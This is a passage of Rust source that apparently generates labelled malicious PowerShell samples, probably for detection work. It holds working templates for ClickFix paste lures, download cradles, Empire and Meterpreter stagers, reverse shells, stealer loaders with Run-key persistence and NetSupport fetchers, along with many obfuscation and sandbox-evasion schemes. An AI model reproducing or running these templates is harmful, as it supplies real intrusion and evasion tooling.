//! PowerShell: lures of the clipboard, stagers of frameworks, loaders of stealers and remote access
//! tools, what Invoke-Obfuscation and its like make.

use super::super::{
    base64, codes, deflate, each, gzip, hex, keyed, put, quoted, reversed, wide, xored,
};
use super::cipher::{aes_cbc, bytes};
use super::{
    Dice, Parts, Truth, agent, alphabet, cased, listed, mark, mixed, places, plain, prose, spaced,
    veiled,
};
use std::fmt::Write;

/// An expression whose value is `text`; lines before it go to `before`.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    match dice.below(18) {
        0 => {
            let (encoding, packed) = if dice.chance(50) {
                ("UTF8", base64(text.as_bytes()))
            } else {
                ("Unicode", base64(&wide(text)))
            };
            let space = dice.pick(&["System.Text", "Text"]);
            let convert = dice.pick(&["System.Convert", "Convert"]);
            format!(
                "[{space}.Encoding]::{encoding}.GetString([{convert}]::FromBase64String('{packed}'))"
            )
        }
        1 => formatted(dice, text),
        2 => match dice.below(4) {
            0 => format!("([char[]]({}) -join '')", codes(text.bytes(), ",")),
            1 => format!("(-join ({} | % {{ [char]$_ }}))", codes(text.bytes(), ", ")),
            2 => format!("({})", each(text, "+", |it| format!("[char]{it}"))),
            _ => format!("(-join [char[]]({}))", each(text, ",", |it| format!("0x{it:02X}"))),
        },
        3 => match dice.below(4) {
            0 => format!("(-join '{}'[-1..-{}])", reversed(text), text.len()),
            1 => {
                let name = veiled(dice);
                let _ = writeln!(
                    before,
                    "${name} = '{}'.ToCharArray()\n[Array]::Reverse(${name})",
                    reversed(text)
                );
                format!("(-join ${name})")
            }
            2 => format!(
                "(([regex]::Matches('{}','.','RightToLeft') | ForEach {{$_.value}}) -join '')",
                reversed(text)
            ),
            _ => {
                let name = veiled(dice);
                let _ = writeln!(before, "${name} = '{}'", reversed(text));
                format!("(${name}[(${name}.Length-1)..0] -join '')")
            }
        },
        4 => {
            let mark = mark(dice, text, &["#", "ZX", "_K_", "@", "~", "!!"]);
            let littered = dice.littered(text, &mark);
            match dice.below(3) {
                0 => format!("'{littered}'.Replace('{mark}','')"),
                1 => format!("('{littered}' -replace '{mark}')"),
                _ => format!("('{littered}'.Split([string[]]@('{mark}'),'None') -join '')"),
            }
        }
        5 => {
            let key = dice.key();
            let list = codes(xored(text, key), ",");
            let (name, at) = (veiled(dice), veiled(dice));
            match dice.below(3) {
                0 => format!("(-join (@({list}) | ForEach-Object {{ [char]($_ -bxor {key}) }}))"),
                1 => format!("(({list}|%{{[char]($_-BXOR\"0x{key:02X}\")}})-jOIN'')"),
                _ => {
                    let _ = writeln!(
                        before,
                        "${name} = [byte[]]({list})\nfor (${at} = 0; ${at} -lt ${name}.Count; ${at}++) {{ ${name}[${at}] = ${name}[${at}] -bxor {key} }}"
                    );
                    format!("[Text.Encoding]::ASCII.GetString(${name})")
                }
            }
        }
        6 => {
            // Invoke-Obfuscation's encodings: numbers between letters that are split at.
            let (base, digits): (usize, fn(u8) -> String) = match dice.below(4) {
                0 => (16, |it| format!("{it:x}")),
                1 => (8, |it| format!("{it:o}")),
                2 => (2, |it| format!("{it:b}")),
                _ => (10, |it| it.to_string()),
            };
            let mut marked = String::new();
            for (at, letter) in text.bytes().enumerate() {
                if at > 0 {
                    marked.push_str(dice.pick(&["s", "k", "~", "U", "w"]));
                }
                marked.push_str(&digits(letter));
            }
            if base == 10 {
                format!("(( '{marked}'.Split('skU~w') | %{{ [char][int]$_ }} ) -join '')")
            } else {
                format!(
                    "('{marked}' -csPLit 's' -csPLit'k' -csPLit '~'-csPLit'U' -csPLit 'w' |%{{ ([char]([convert]::ToInt16( ( $_.tOSTRing() ),{base}) )) }} )-join ''"
                )
            }
        }
        7 => {
            let (stream, packed) = if dice.chance(50) {
                ("GzipStream", base64(&gzip(text.as_bytes())))
            } else {
                ("DeflateStream", base64(&deflate(text.as_bytes())))
            };
            format!(
                "(New-Object IO.StreamReader((New-Object IO.Compression.{stream}([IO.MemoryStream][Convert]::FromBase64String('{packed}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
            )
        }
        8 => {
            let pieces = dice.pieces(text);
            let names: Vec<String> = pieces.iter().map(|_| veiled(dice)).collect();
            for at in dice.order(pieces.len()) {
                let _ = writeln!(before, "${} = '{}'", names[at], pieces[at]);
            }
            if dice.chance(50) {
                format!(
                    "({})",
                    names.iter().map(|it| format!("${it}")).collect::<Vec<_>>().join("+")
                )
            } else {
                format!("\"{}\"", names.iter().map(|it| format!("${{{it}}}")).collect::<String>())
            }
        }
        9 if plain(text) => {
            let letters = alphabet(dice);
            let name = veiled(dice);
            let _ = writeln!(before, "${name} = '{letters}'");
            let list = places(text, &letters);
            if dice.chance(50) {
                format!("(-join ${name}[{}])", listed(list, ","))
            } else {
                format!(
                    "(''+{})",
                    list.iter().map(|it| format!("${name}[{it}]")).collect::<Vec<_>>().join("+")
                )
            }
        }
        10 => {
            // GuLoader: every so many-th letter.
            let width = 2 + dice.below(5);
            let (name, value, at, out) =
                (mixed(dice, 6), mixed(dice, 6), mixed(dice, 5), mixed(dice, 5));
            let littered = spaced(dice, text, width);
            let step = width + 1;
            let form = dice.pick(&[
                "function @NAME@ ([String]$@VALUE@){ $@OUT@='';for($@AT@=@WIDTH@; $@AT@ -lt $@VALUE@.Length; $@AT@+=@STEP@){$@OUT@+=$@VALUE@.Substring($@AT@,1)};$@OUT@ }\n",
                "Function @NAME@ {\n    param([String]$@VALUE@)\n    $@AT@ = @WIDTH@\n    $@OUT@ = ''\n    do {\n        $@OUT@ += $@VALUE@[$@AT@]\n        $@AT@ += @STEP@\n    } until (!$@VALUE@[$@AT@])\n    $@OUT@\n}\n",
            ]);
            before.push_str(&put(
                form,
                &[
                    ("NAME", &name),
                    ("VALUE", &value),
                    ("AT", &at),
                    ("OUT", &out),
                    ("WIDTH", &width.to_string()),
                    ("STEP", &step.to_string()),
                ],
            ));
            format!("({name} '{littered}')")
        }
        11 => {
            let (name, out, at) = (veiled(dice), veiled(dice), veiled(dice));
            let form = dice.pick(&[
                "$@NAME@ = '@HEX@'\n$@OUT@ = ''\nfor ($@AT@ = 0; $@AT@ -lt $@NAME@.Length; $@AT@ += 2) { $@OUT@ += [char][Convert]::ToByte($@NAME@.Substring($@AT@, 2), 16) }\n",
                "$@OUT@ = -join(('@HEX@' -split '(..)' | ? { $_ }) | % { [char][convert]::ToUInt32($_,16) })\n",
                "$@NAME@ = '@HEX@'\n$@OUT@ = -join ($@NAME@ -replace '..', '0x$& ' -split ' ' -ne '' | % { [char][int]$_ })\n",
            ]);
            before.push_str(&put(
                form,
                &[("NAME", &name), ("OUT", &out), ("AT", &at), ("HEX", &hex(text.as_bytes()))],
            ));
            format!("${out}")
        }
        12 => {
            let by = 1 + dice.below(30) as u8;
            let (out, at) = (veiled(dice), veiled(dice));
            let list = codes(text.bytes().map(|it| it + by), ",");
            let _ = writeln!(
                before,
                "${out} = ''\nforeach (${at} in @({list})) {{ ${out} += [char](${at} - {by}) }}"
            );
            format!("${out}")
        }
        13 => match dice.below(3) {
            0 => format!(
                "[uri]::UnescapeDataString('{}')",
                each(text, "", |it| format!("%{it:02X}"))
            ),
            1 => format!(
                "[System.Net.WebUtility]::HtmlDecode('{}')",
                each(text, "", |it| format!("&#{it};"))
            ),
            _ => format!("[regex]::Unescape('{}')", each(text, "", |it| format!("\\x{it:02x}"))),
        },
        14 => {
            // AES as the loaders behind batch files have it.
            let size = if dice.chance(50) { 32 } else { 16 };
            let (key, start) = (bytes(dice, size), bytes(dice, 16));
            let packed = base64(&aes_cbc(text.as_bytes(), &key, &start));
            let (aes, name, data) = (veiled(dice), veiled(dice), veiled(dice));
            before.push_str(&put(
                "$@AES@ = [System.Security.Cryptography.Aes]::Create()\n$@AES@.Mode = [System.Security.Cryptography.CipherMode]::CBC\n$@AES@.Padding = [System.Security.Cryptography.PaddingMode]::PKCS7\n$@AES@.Key = [System.Convert]::FromBase64String('@KEY@')\n$@AES@.IV = [System.Convert]::FromBase64String('@START@')\n$@DATA@ = [System.Convert]::FromBase64String('@PACKED@')\n$@NAME@ = $@AES@.CreateDecryptor()\n$@DATA@ = $@NAME@.TransformFinalBlock($@DATA@, 0, $@DATA@.Length)\n$@NAME@.Dispose()\n$@AES@.Dispose()\n",
                &[
                    ("AES", &aes),
                    ("NAME", &name),
                    ("DATA", &data),
                    ("KEY", &base64(&key)),
                    ("START", &base64(&start)),
                    ("PACKED", &packed),
                ],
            ));
            format!("[System.Text.Encoding]::UTF8.GetString(${data})")
        }
        15 => {
            let word = dice.name();
            let (data, key, at) = (veiled(dice), veiled(dice), veiled(dice));
            let _ = writeln!(
                before,
                "${data} = [Convert]::FromBase64String('{}')\n${key} = [Text.Encoding]::UTF8.GetBytes('{word}')\n${data} = $(for (${at} = 0; ${at} -lt ${data}.length; ${at}++) {{ ${data}[${at}] -bxor ${key}[${at} % ${key}.length] }})",
                base64(&keyed(text, &word))
            );
            format!("[Text.Encoding]::UTF8.GetString(${data})")
        }
        16 => {
            // Letters in ticks, and in pieces.
            let pieces = dice.pieces(text);
            let list: Vec<String> = pieces
                .iter()
                .map(|it| if dice.chance(50) { format!("'{it}'") } else { format!("\"{it}\"") })
                .collect();
            match dice.below(3) {
                0 => format!("({})", list.join("+")),
                1 => format!("$({})", list.join(" + ")),
                _ => format!("[string]::Join('', @({}))", list.join(", ")),
            }
        }
        _ => {
            // Two replacements, one undoing the other's letters.
            let name = mixed(dice, 7);
            let (one, other) = (dice.mark(text), "zQz");
            let changed = text.replace("tp", other).replace('.', &one);
            let _ = writeln!(before, "${name} = '{changed}'");
            format!("${name}.Replace('{one}', [string][char]46).Replace('{other}', 'tp')")
        }
    }
}

/// Pieces that `-f` puts in order.
fn formatted(dice: &mut Dice, text: &str) -> String {
    let pieces = dice.pieces(text);
    let order = dice.order(pieces.len());
    let mut template = String::new();
    for at in 0..pieces.len() {
        let place = order.iter().position(|it| *it == at).unwrap_or_default();
        let _ = write!(template, "{{{place}}}");
    }
    let list: Vec<String> = order.iter().map(|at| format!("'{}'", pieces[*at])).collect();
    format!("(\"{template}\"{}{})", dice.pick(&["-f ", " -f ", "-F"]), list.join(","))
}

/// `Invoke-Expression` in one of its dresses, to stand before its operand.
fn invoke(dice: &mut Dice) -> String {
    let name = cased(dice, "iex");
    match dice.below(9) {
        0..3 => name,
        3 => "Invoke-Expression".to_owned(),
        4 => ".($pshome[21]+$pshome[30]+'x')".to_owned(),
        5 => "& ($ShellId[1]+$ShellId[13]+'x')".to_owned(),
        6 => "&((gv '*mdr*').Name[3,11,2]-join'')".to_owned(),
        7 => ". ( $env:ComSpec[4,24,25]-join'')".to_owned(),
        _ => format!("&{}", formatted(dice, &name)),
    }
}

/// Lines before it all: policies, waits, looks at the machine.
fn prelude(dice: &mut Dice) -> String {
    let mut out = String::new();
    let lines = [
        "$ErrorActionPreference = 'SilentlyContinue'\n",
        "$ProgressPreference = 'SilentlyContinue'\n",
        "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\n",
        "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}\n",
        "Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass -Force\n",
        "if ((Get-WmiObject Win32_ComputerSystem).TotalPhysicalMemory -lt 2GB) { exit }\n",
        "Start-Sleep -Milliseconds 1200\n",
        "if ([System.Environment]::Is64BitOperatingSystem) { $bits = 64 } else { $bits = 32 }\n",
    ];
    for line in lines {
        if dice.chance(25) {
            out.push_str(line);
        }
    }
    if dice.chance(30) {
        let _ = writeln!(out, "# {}", prose(dice, 6));
    }
    if dice.chance(25) {
        let (name, count) = (mixed(dice, 6), 10 + dice.below(60));
        let _ = writeln!(out, "${name} = 0; foreach ($n in 1..{count}) {{ ${name} += $n * 3 }}");
    }
    out
}

/// A dropper of which `truth` tells what it contacts.
pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(17) {
        0 | 1 => clipboard(dice, truth),
        2 => cradle(dice, truth),
        3 => stager(dice, truth),
        4 => web_delivery(dice, truth),
        5 => reverse(dice, truth),
        6 => layered(dice, truth),
        7 => tokens(dice, truth),
        8 => archive(dice, truth),
        9 => remote_control(dice, truth),
        10 => picture(dice, truth),
        11 => com(dice, truth),
        12 => programs(dice, truth),
        13 => beacon(dice, truth),
        14 => socket_of_web(dice, truth),
        15 => dot_net(dice, truth),
        _ => persistent(dice, truth),
    }
}

/// ClickFix: what is pasted into the Run dialog.
fn clipboard(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".txt", ".ps1", ".mp4", ".png"]);
    let (name, other, id) = (mixed(dice, 3), mixed(dice, 3), 100_000 + dice.below(899_999));
    let bare = url.split_once("://").map_or("", |it| it.1).to_owned();
    let scheme = url.split(':').next().unwrap_or_default().to_owned();
    let packed = base64(url.as_bytes());
    let encoded = base64(&wide(&format!("iex (iwr -Uri '{url}' -UseBasicParsing).Content")));
    let form = dice.pick(&[
        "powershell -w hidden -c \"iwr '@URL@' -UseBasicParsing | iex\" # ''I am not a robot - reCAPTCHA Verification ID: @ID@''\n",
        "$@NAME@ = '@URL@'; $@OTHER@ = Invoke-WebRequest -Uri $@NAME@ -UseBasicParsing; iex $@OTHER@.Content # Cloudflare verification: @ID@\n",
        "$@NAME@='@SCHEME@:' + '//' + '@BARE@'; iex(irm $@NAME@)\n",
        "powershell.exe -eC @ENCODED@\n",
        "powershell -w 1 \"mshta.exe @URL@ # I am not a robot: CAPTCHA @ID@\"\n",
        "powershell -c \"&(gcm i*x)([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('@PACKED@')))))\"\n",
        "$@NAME@='@URL@';$@OTHER@=[scriptblock]::Create((irm $@NAME@));& $@OTHER@;clear-host;write-host 'Verification complete! ID: @ID@'\n",
        "cmd /c start /min powershell -w h -nop -ep bypass -c \"sal @NAME@ iwr; @NAME@ '@URL@' -OutFile $env:TEMP\\@OTHER@.ps1; & $env:TEMP\\@OTHER@.ps1\"\n",
        "conhost.exe --headless powershell.exe -nop -c \"iex (curl -useb @URL@)\"\n",
    ]);
    put(
        form,
        &[
            ("URL", &url),
            ("NAME", &name),
            ("OTHER", &other),
            ("ID", &id.to_string()),
            ("BARE", &bare),
            ("SCHEME", &scheme),
            ("PACKED", &packed),
            ("ENCODED", &encoded),
        ],
    )
}

/// A URL in the script's own expression, perhaps in a variable.
fn address(dice: &mut Dice, url: &str, before: &mut String) -> String {
    let word = hide(dice, url, before);
    if dice.chance(60) {
        let name = veiled(dice);
        let _ = writeln!(before, "${name} = {word}");
        format!("${name}")
    } else if word.starts_with('$') && !word.contains(['(', '.']) {
        word
    } else {
        format!("({word})")
    }
}

/// Download cradles.
fn cradle(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let url = truth.url(dice, &["", ".ps1", ".txt"]);
    let word = address(dice, &url, &mut before);
    let invoke = invoke(dice);
    let name = veiled(dice);
    let form = dice.pick(&[
        "@INVOKE@ (New-Object Net.WebClient).DownloadString(@URL@)\n",
        "@INVOKE@ (New-Object (\"{1}{2}{0}\"-f'ent','Net.We','bCli')).\"DOw`Nl`OadSTrI`Ng\"(@URL@)\n",
        "$@NAME@ = New-Object System.Net.WebClient\n$@NAME@.Headers.Add('User-Agent', '@AGENT@')\n$@NAME@.Proxy = [System.Net.WebRequest]::DefaultWebProxy\n$@NAME@.Credentials = [System.Net.CredentialCache]::DefaultCredentials\n@INVOKE@ $@NAME@.DownloadString(@URL@)\n",
        "(New-Object Net.WebClient).DownloadString(@URL@) | @IEX@\n",
        "$@NAME@ = (Invoke-WebRequest -UseBasicParsing -Uri @URL@ -UserAgent '@AGENT@').Content\n@INVOKE@ $@NAME@\n",
        "$@NAME@=[scriptblock]::Create((iRm -Uri @URL@))\n& $@NAME@\n",
        "sal @NAME@ New-Object; @INVOKE@ (@NAME@ IO.StreamReader((([Net.WebRequest]::Create(@URL@)).GetResponse()).GetResponseStream())).ReadToEnd()\n",
        "$@NAME@ = [System.Net.Http.HttpClient]::new()\n@INVOKE@ $@NAME@.GetStringAsync(@URL@).Result\n",
        "SI Variable:/@NAME@ ((New-Object Net.WebClient).(((New-Object Net.WebClient)|gm|?{$_.Name-ilike'D*g'}).Name).Invoke(@URL@))\n@INVOKE@ (gi Variable:/@NAME@).Value\n",
    ]);
    let rest = put(
        form,
        &[
            ("INVOKE", &invoke),
            ("IEX", dice.pick(&["iex", "IEX", "Invoke-Expression", "&('i'+'ex')"])),
            ("NAME", &name),
            ("AGENT", agent(dice)),
            ("URL", &word),
        ],
    );
    before + &rest
}

/// Empire.
fn stager(dice: &mut Dice, truth: &mut Truth) -> String {
    let origin = Truth::origin(dice);
    let path = dice.pick(&["/login/process.php", "/admin/get.php", "/news.php"]);
    truth.joined(&origin, path);
    let server = base64(&wide(&origin));
    let key = dice.name();
    let inner = put(
        "If($PSVersionTable.PSVersion.Major -ge 3){};[System.Net.ServicePointManager]::Expect100Continue=0;$@WC@=New-Object System.Net.WebClient;$u='@AGENT@';$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('@SERVER@')));$t='@PATH@';$@WC@.Headers.Add('User-Agent',$u);$@WC@.Proxy=[System.Net.WebRequest]::DefaultWebProxy;$@WC@.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials;$Script:Proxy = $@WC@.Proxy;$K=[System.Text.Encoding]::ASCII.GetBytes('@KEY@');$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};$@WC@.Headers.Add(\"Cookie\",\"session=@COOKIE@=\");$data=$@WC@.DownloadData($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];-join[Char[]](& $R $data ($IV+$K))|IEX",
        &[
            ("WC", &mixed(dice, 4)),
            ("AGENT", agent(dice)),
            ("SERVER", &server),
            ("PATH", path),
            ("KEY", &key),
            ("COOKIE", &base64(key.as_bytes()).replace('=', "")),
        ],
    );
    if dice.chance(50) {
        format!("{}\n", inner.replace(";$", ";\n$"))
    } else {
        format!("powershell -noP -sta -w 1 -enc {}\n", base64(&wide(&inner)))
    }
}

/// Meterpreter's web_delivery and Cobalt Strike's scripted one.
fn web_delivery(dice: &mut Dice, truth: &mut Truth) -> String {
    let origin = Truth::origin(dice);
    let (first, second) = (mixed(dice, 8), mixed(dice, 5));
    truth.joined(&origin, &format!("/{first}"));
    truth.joined(&origin, &format!("/{first}/{second}"));
    let inner = put(
        "[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12;$@NAME@=new-object net.webclient;if([System.Net.WebProxy]::GetDefaultProxy().address -ne $null){$@NAME@.proxy=[Net.WebRequest]::GetSystemWebProxy();$@NAME@.Proxy.Credentials=[Net.CredentialCache]::DefaultCredentials;};IEX ((new-object Net.WebClient).DownloadString('@ORIGIN@/@FIRST@/@SECOND@'));IEX ((new-object Net.WebClient).DownloadString('@ORIGIN@/@FIRST@'));",
        &[("NAME", &mixed(dice, 4)), ("ORIGIN", &origin), ("FIRST", &first), ("SECOND", &second)],
    );
    match dice.below(4) {
        0 => inner + "\n",
        1 => format!("powershell.exe -nop -w hidden -e {}\n", base64(&wide(&inner))),
        2 => {
            let packed = base64(&gzip(inner.as_bytes()));
            format!(
                "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"{packed}\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\n"
            )
        }
        _ => {
            let packed = base64(&gzip(inner.as_bytes()));
            format!(
                "if([IntPtr]::Size -eq 4){{$b='powershell.exe'}}else{{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'}};$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName=$b;$s.Arguments='-nop -w hidden -c &([scriptblock]::create((New-Object System.IO.StreamReader(New-Object System.IO.Compression.GzipStream((New-Object System.IO.MemoryStream(,[System.Convert]::FromBase64String(''{packed}''))),[System.IO.Compression.CompressionMode]::Decompress))).ReadToEnd()))';$s.UseShellExecute=$false;$s.RedirectStandardOutput=$true;$s.WindowStyle='Hidden';$s.CreateNoWindow=$true;$p=[System.Diagnostics.Process]::Start($s);\n"
            )
        }
    }
}

/// Shells that connect back.
fn reverse(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let (host, port) = truth.endpoint(dice);
    let (ip, number) = (veiled(dice), veiled(dice));
    let word = if dice.chance(70) { hide(dice, &host, &mut before) } else { format!("'{host}'") };
    let _ = writeln!(before, "${ip} = {word}\n${number} = {port}");
    let (host, port) = (format!("${ip}"), format!("${number}"));
    let form = dice.pick(&[
        "$client = New-Object System.Net.Sockets.TCPClient(@HOST@,@PORT@);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()\n",
        "do {\n  Start-Sleep -Seconds 1\n  try { $TCPClient = New-Object Net.Sockets.TCPClient(@HOST@, @PORT@) } catch {}\n} until ($TCPClient.Connected)\n$NetworkStream = $TCPClient.GetStream()\n$StreamWriter = New-Object IO.StreamWriter($NetworkStream)\nfunction WriteToStream ($String) {\n  [byte[]]$script:Buffer = 0..$TCPClient.ReceiveBufferSize | % {0}\n  $StreamWriter.Write($String + 'SHELL> ')\n  $StreamWriter.Flush()\n}\nWriteToStream ''\nwhile(($BytesRead = $NetworkStream.Read($Buffer, 0, $Buffer.Length)) -gt 0) {\n  $Command = ([text.encoding]::UTF8).GetString($Buffer, 0, $BytesRead - 1)\n  $Output = try { Invoke-Expression $Command 2>&1 | Out-String } catch { $_ | Out-String }\n  WriteToStream ($Output)\n}\n$StreamWriter.Close()\n",
        "$sslProtocols = [System.Security.Authentication.SslProtocols]::Tls12; $TCPClient = [System.Net.Sockets.TcpClient]::new(); $TCPClient.Connect(@HOST@, @PORT@);$NetworkStream = $TCPClient.GetStream();$SslStream = New-Object Net.Security.SslStream($NetworkStream,$false,({$true} -as [Net.Security.RemoteCertificateValidationCallback]));$SslStream.AuthenticateAsClient(@HOST@,$null,$sslProtocols,$false);\n",
        "$s = [System.Net.Sockets.Socket]::new([System.Net.Sockets.AddressFamily]::InterNetwork, [System.Net.Sockets.SocketType]::Stream, [System.Net.Sockets.ProtocolType]::Tcp)\n$s.Connect(@HOST@, [int]@PORT@)\n$b = New-Object byte[] 4\n[void]$s.Receive($b)\n$s.Close()\n",
    ]);
    before + &put(form, &[("HOST", &host), ("PORT", &port)])
}

/// A script within a script within a script.
fn layered(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut inner = cradle(dice, truth);
    for _ in 0..1 + dice.below(2) {
        let (name, key) = (veiled(dice), dice.key());
        let invoke = invoke(dice);
        inner = match dice.below(6) {
            0 => {
                format!("powershell -nop -exec bypass -EncodedCommand {}\n", base64(&wide(&inner)))
            }
            1 => format!(
                "{invoke} ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}')))\n",
                base64(inner.as_bytes())
            ),
            2 => format!(
                "{invoke} (nEw-oBjECT iO.sTReamReAdEr((NEw-ObJEcT SySTeM.iO.cOmPResSioN.DefLATesTrEam( [SyStEm.iO.MEMOrySTREAM] [sYstEM.cOnvErt]::frOMbase64STring('{}') , [iO.cOMPREsSiON.cOMPREsSIoNMODE]::DEcOMPRess)), [TeXt.eNCODiNG]::ASciI)).ReadToEnd()\n",
                base64(&deflate(inner.as_bytes()))
            ),
            3 => format!(
                "${name} = @({})\n{invoke} (-join(${name} | % {{ [char]($_ -bxor {key}) }}))\n",
                codes(xored(&inner, key), ",")
            ),
            4 => {
                let lines: String = super::lines(&base64(inner.as_bytes()), 100)
                    .iter()
                    .map(|it| format!("${name} += '{it}'\n"))
                    .collect();
                format!(
                    "${name} = ''\n{lines}{invoke} ([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String(${name})))\n"
                )
            }
            _ => format!(
                "${name} = '{}'\n${name} = -join ${name}[-1..-(${name}.Length)]\n& ([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(${name}))))\n",
                reversed(&base64(inner.as_bytes()))
            ),
        };
    }
    inner
}

/// Invoke-Obfuscation's tokens: everything that has a name is put together.
fn tokens(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".ps1", "", ".exe"]);
    let mut before = String::new();
    let word = hide(dice, &url, &mut before);
    let object = formatted(dice, "New-Object");
    let client = formatted(dice, "Net.WebClient");
    let (text, file) = (formatted(dice, "DownloadString"), formatted(dice, "DownloadFile"));
    let (start, name) = (formatted(dice, "Start-Process"), mixed(dice, 5));
    let set = format!("s`E{}", dice.pick(&["T-`Var`IAblE", "t-V`AR`iablE"]));
    let invoke = invoke(dice);
    let form = dice.pick(&[
        "${@NAME@} = .@OBJECT@ @CLIENT@\n@INVOKE@ ${@NAME@}.@TEXT@.Invoke(@URL@)\n",
        "@SET@ -Name @NAME@ -Value (@URL@)\n${p`A`TH} = \"${env:TEMP}\\@NAME@.exe\"\n(&@OBJECT@ @CLIENT@).@FILE@.Invoke(${@NAME@}, ${pATh})\n&@START@ ${PA`Th}\n",
        "$@NAME@ = [type](\"{1}{0}\"-f'WebClient','Net.')\n$o = [Activator]::CreateInstance($@NAME@)\n@INVOKE@ ($o.@TEXT@.Invoke(@URL@))\n",
    ]);
    let rest = put(
        form,
        &[
            ("NAME", &name),
            ("OBJECT", &object),
            ("CLIENT", &client),
            ("TEXT", &text),
            ("FILE", &file),
            ("START", &start),
            ("SET", &set),
            ("INVOKE", &invoke),
            ("URL", &word),
        ],
    );
    before + &rest
}

/// Stealers: an archive is fetched, unpacked, and what is in it is started.
fn archive(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let url = truth.url(dice, &[".zip", ".7z", ".jpg"]);
    let word = address(dice, &url, &mut before);
    let (folder, file, exe) = (mixed(dice, 6), dice.name(), mixed(dice, 5));
    let get = dice.pick(&[
        "Invoke-WebRequest -Uri @URL@ -OutFile $@FILE@ -UseBasicParsing",
        "Start-BitsTransfer -Source @URL@ -Destination $@FILE@",
        "(New-Object System.Net.WebClient).DownloadFile(@URL@, $@FILE@)",
        "curl.exe -s -L -o $@FILE@ @URL@",
        "[IO.File]::WriteAllBytes($@FILE@, (New-Object Net.WebClient).DownloadData(@URL@))",
    ]);
    let get = if get.starts_with("curl") && !word.starts_with('$') {
        "iwr @URL@ -OutFile $@FILE@"
    } else {
        get
    };
    let rest = put(
        "$@FOLDER@ = Join-Path $env:APPDATA '@FOLDER@'\n$@FILE@ = Join-Path $env:TEMP '@FILE@.zip'\nif (-not (Test-Path $@FOLDER@)) { New-Item -ItemType Directory -Path $@FOLDER@ | Out-Null }\ntry {\n    @GET@\n    Expand-Archive -Path $@FILE@ -DestinationPath $@FOLDER@ -Force\n    Remove-Item $@FILE@ -Force\n    Start-Process -FilePath (Join-Path $@FOLDER@ '@EXE@.exe') -WindowStyle Hidden\n} catch { }\n@RUN@",
        &[
            ("GET", get),
            ("URL", &word),
            ("FOLDER", &folder),
            ("FILE", &file),
            ("EXE", &exe),
            (
                "RUN",
                &if dice.chance(50) {
                    format!(
                        "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '{exe}' -Value \"$env:APPDATA\\{folder}\\{exe}.exe\" -PropertyType String -Force | Out-Null\n"
                    )
                } else {
                    String::new()
                },
            ),
        ],
    );
    before + &rest
}

/// NetSupport and others of many files.
fn remote_control(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let origin = Truth::origin(dice) + "/" + &dice.name();
    let all = [
        "client32.exe",
        "NSM.LIC",
        "PCICL32.DLL",
        "msvcr100.dll",
        "remcmdstub.exe",
        "nskbfltr.inf",
        "HTCTL32.DLL",
    ];
    let list: Vec<String> = all[dice.below(4)..].iter().map(|it| (*it).to_owned()).collect();
    for file in &list {
        truth.joined(&origin, &format!("/{file}"));
    }
    let word =
        if dice.chance(60) { hide(dice, &origin, &mut before) } else { format!("'{origin}'") };
    let (base, folder, files, at) = (veiled(dice), mixed(dice, 5), veiled(dice), veiled(dice));
    let form = dice.pick(&[
        "$@BASE@ = @URL@\n$@FOLDER@ = \"$env:ProgramData\\@FOLDER@\"\nmkdir $@FOLDER@ -Force | Out-Null\n$@FILES@ = @(@LIST@)\nforeach ($@AT@ in $@FILES@) {\n    Invoke-WebRequest -Uri \"$@BASE@/$@AT@\" -OutFile \"$@FOLDER@\\$@AT@\" -UseBasicParsing\n}\nStart-Process \"$@FOLDER@\\client32.exe\"\n",
        "$@BASE@ = @URL@\n$@FOLDER@ = New-Object Net.WebClient\n@LIST@ | ForEach-Object { $@FOLDER@.DownloadFile($@BASE@ + '/' + $_, (Join-Path $env:TEMP $_)) }\n",
